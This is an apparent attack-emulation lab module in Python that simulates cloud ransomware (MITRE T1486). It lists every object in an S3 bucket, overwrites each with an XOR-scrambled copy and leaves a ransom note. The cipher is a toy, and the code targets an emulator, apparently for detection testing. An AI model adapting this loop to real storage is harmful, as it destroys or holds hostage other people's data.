"""s3-ransomware-client-side-encryption: overwrite every object with its encrypted copy (T1486)."""

from __future__ import annotations

import hashlib
from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.s3_ransomware import S3RansomwareTechnique
from lab.emulator.endpoints import Endpoints

KEY = hashlib.sha256(b"attacker's key, never shared").digest()


def encrypted(body: bytes) -> bytes:
    """A stand-in for the attacker's cipher (XOR with a keystream): the bytes change, the size
    does not; nothing here needs to be secure."""
    stream = (KEY * (len(body) // len(KEY) + 1))[: len(body)]
    return bytes(a ^ b for a, b in zip(body, stream, strict=True))


class S3RansomwareClientSideEncryption(S3RansomwareTechnique):
    folder = Path(__file__).parent
    PURPOSE = "target-ransomware-encryption"

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        s3 = endpoints.client("s3", "attacker")
        bucket = prerequisites["bucket"]
        for item in s3.list_objects_v2(Bucket=bucket).get("Contents", []):
            body = s3.get_object(Bucket=bucket, Key=item["Key"])["Body"].read()
            s3.put_object(Bucket=bucket, Key=item["Key"], Body=encrypted(body))
        self.leave_note(s3, bucket)


TECHNIQUE = S3RansomwareClientSideEncryption
